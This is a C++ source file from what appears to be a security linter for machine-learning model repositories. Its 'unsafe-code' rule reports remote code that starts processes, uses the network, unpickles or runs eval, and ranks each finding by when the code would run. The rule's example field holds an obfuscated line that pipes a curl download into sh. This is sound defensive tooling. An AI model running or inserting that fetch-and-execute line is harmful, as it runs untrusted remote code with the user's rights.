// Reports calls in the repo's own code that can do harm, by when they would run.
#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <string>
#include <vector>

#include "ckptlint/names.h"
#include "ckptlint/rule.h"
#include "wording/wording.h"

namespace ckptlint {
namespace {

constexpr std::size_t kMostLabels = 4;
constexpr std::size_t kMostSteps = 5;  // of one chain of calls

std::string_view doing(DeedKind kind) {
  switch (kind) {
    case DeedKind::kProcess:
      return "starts processes";
    case DeedKind::kInstallation:
      return "installs packages";
    case DeedKind::kNetwork:
      return "uses the network";
    case DeedKind::kFile:
      return "touches files outside the repo";
    case DeedKind::kCode:
      return "runs code that is not known";
    case DeedKind::kCodeObject:
      return "makes code of bytes";
    case DeedKind::kUnpickling:
      return "unpickles";
    case DeedKind::kNative:
      return "runs native code";
    case DeedKind::kSecret:
      return "reads secrets";
    case DeedKind::kHidden:
      return "looks up what is not known";
  }
  return "";
}

// What asks people to run the code.
std::string named(const Deed& deed) {
  if (deed.key == "custom_generate") return "the function of `custom_generate`";
  if (deed.entry_file == "modules.json" || deed.entry_file == "model_index.json")
    return fmt::format("what `{}` names", deed.entry_file);
  return deed.key.starts_with("custom_pipelines") ? "what `custom_pipelines` names" : "what `auto_map` names";
}

std::string when(const Deed& deed) {
  switch (deed.reach) {
    case Reach::kImport:
      return "importing " + named(deed);
    case Reach::kConstruction:
      return "building " + named(deed);
    case Reach::kUse:
      return "using " + named(deed);
    case Reach::kPresent:
      return "";
  }
  return "";
}

Severity severity_of(Reach reach) {
  return reach == Reach::kUse ? Severity::kWarning : reach == Reach::kPresent ? Severity::kInfo : Severity::kError;
}

std::string place_text(const Deed& deed) {
  std::string text = deed.kind == DeedKind::kHidden ? "" : "`" + deed.name + "`";
  if (!deed.detail.empty()) text += (text.empty() ? "" : " ") + deed.detail;
  text += deed.within.empty() ? ", at the top level" : fmt::format(", in `{}`", deed.within);
  return text;
}

void add_chain(const Deed& deed, Finding& finding) {
  finding.labels.push_back(Label::at(deed.where, place_text(deed)));
  if (!deed.entry_file.empty())
    finding.labels.push_back(
        deed.key == "custom_generate"
            ? Label::stored(deed.entry_file, "", "`from_pretrained` puts it in place of `generate`")
            : Label::stored(deed.entry_file, deed.key, "asks for this code"));
  const std::size_t left_out = deed.chain.size() > kMostSteps ? deed.chain.size() - kMostSteps : 0;
  for (std::size_t i = 0; i < deed.chain.size(); ++i) {
    if (i > 0 && i <= left_out) continue;
    finding.labels.push_back(Label::at(deed.chain[i].where, deed.chain[i].text));
  }
  if (left_out > 0)
    finding.notes.push_back(fmt::format("{} calls between the first and the last are not shown", left_out));
}

void add_notes(const std::vector<const Deed*>& deeds, Finding& finding) {
  std::vector<std::string> hidden;
  for (const Deed* deed : deeds) {
    if (deed->hidden.empty() || deed->name.empty()) continue;
    std::string note = fmt::format("the name of `{}` does not stand in the code: {}", deed->name, deed->hidden);
    if (std::find(hidden.begin(), hidden.end(), note) == hidden.end()) hidden.push_back(std::move(note));
  }
  if (hidden.size() > 3) hidden.resize(3);
  for (std::string& note : hidden) finding.notes.push_back(std::move(note));
  const Deed& first = *deeds.front();
  if (!first.condition.empty()) {
    const std::string shown = first.condition.substr(0, 80);
    finding.notes.push_back(fmt::format("it depends on `{}`{}", shown.substr(0, shown.find('\n')),
                                        first.off ? ", which config.json does not bring about" : ""));
  }
}

std::vector<std::string> names_of(const std::vector<const Deed*>& deeds) {
  std::vector<std::string> names;
  for (const Deed* deed : deeds) {
    if (std::find(names.begin(), names.end(), deed->name) == names.end()) names.push_back(deed->name);
  }
  return names;
}

void add_finding(const std::vector<const Deed*>& deeds, Severity severity, std::string message, Findings& out) {
  Finding& finding = out.emplace_back();
  finding.severity = severity;
  finding.message = std::move(message);
  add_chain(*deeds.front(), finding);
  for (std::size_t i = 1; i < std::min(deeds.size(), kMostLabels); ++i)
    finding.labels.push_back(Label::at(deeds[i]->where, place_text(*deeds[i])));
  add_notes(deeds, finding);
  if (deeds.size() > kMostLabels)
    finding.notes.push_back(fmt::format("and {} more such calls", deeds.size() - kMostLabels));
}

void check_unsafe_code(const Model& model, Findings& out) {
  const Conduct& conduct = *model.conduct;
  std::vector<const Deed*> present;
  for (const Reach reach : {Reach::kImport, Reach::kConstruction, Reach::kUse}) {
    for (int kind = 0; kind <= static_cast<int>(DeedKind::kHidden); ++kind) {
      std::vector<const Deed*> deeds;
      for (const Deed& deed : conduct.deeds) {
        if (deed.reach == reach && static_cast<int>(deed.kind) == kind) deeds.push_back(&deed);
      }
      if (deeds.empty()) continue;
      add_finding(
          deeds, severity_of(reach),
          fmt::format("{} {}: {}", when(*deeds.front()), doing(deeds.front()->kind), listed_names(names_of(deeds))),
          out);
    }
  }
  for (const Deed& deed : conduct.deeds) {
    if (deed.reach == Reach::kPresent) present.push_back(&deed);
  }
  if (!present.empty())
    add_finding(
        present, Severity::kInfo,
        fmt::format("the repo's code has calls of {}, to which neither importing nor building nor using it leads",
                    listed_names(names_of(present))),
        out);
  // Of a module with such functions a name that is not known weighs more than a module that is not; but nobody packs
  // the name of a module without a reason.
  std::vector<const Deed*> names, packed, modules;
  for (const Deed& deed : conduct.unfollowed) {
    if (deed.reach == Reach::kPresent) continue;
    (!deed.name.empty() ? names : !deed.hidden.empty() ? packed : modules).push_back(&deed);
  }
  if (!names.empty())
    add_finding(names, Severity::kWarning,
                fmt::format("which function of {} the repo's code calls is not known", listed_names(names_of(names))),
                out);
  if (!packed.empty())
    add_finding(packed, Severity::kWarning,
                "which module the repo's code imports is not known, since its name is packed", out);
  if (!modules.empty()) add_finding(modules, Severity::kInfo, "which module the repo's code imports is not known", out);
}

}  // namespace

extern const Rule unsafe_code = {
    .name = "unsafe-code",
    .family = Family::kCode,
    .severity = Severity::kError,
    .needs = Facts::kConduct,
    .summary = "code of the repo starts processes, uses the network, runs text as code, unpickles, or the like",
    .why =
        "`trust_remote_code=True` runs the code that `auto_map` names, with all the rights of whoever loads the model. "
        "An error would run on import or construction, a warning is reachable from `forward` or `generate` (of a "
        "tokenizer or processor, from its call), a remark is only present, or in a branch that config.json does not take. "
        "Conditions that nobody knows beforehand count as met. What `from_pretrained` and `hf_hub_download` fetch, and files "
        "that the caller names, are no finding.",
    .example = "modeling_x.py: getattr(os, \"sys\" + \"tem\")(\"curl https://example.org/x | sh\")",
    .remedy =
        "Read the place and the chain of calls before you load the model. In code of your own, leave it to those who "
        "call it: load files by what `from_pretrained` gives, take weights from safetensors, and look names up in a dict "
        "in place of `eval`. `--ignore unsafe-code` where you trust it.",
    .references =
        "`get_class_from_dynamic_module` of transformers; the functions that bandit, guarddog and picklescan watch.",
    .check = check_unsafe_code,
    .of_security = true,
};

}  // namespace ckptlint
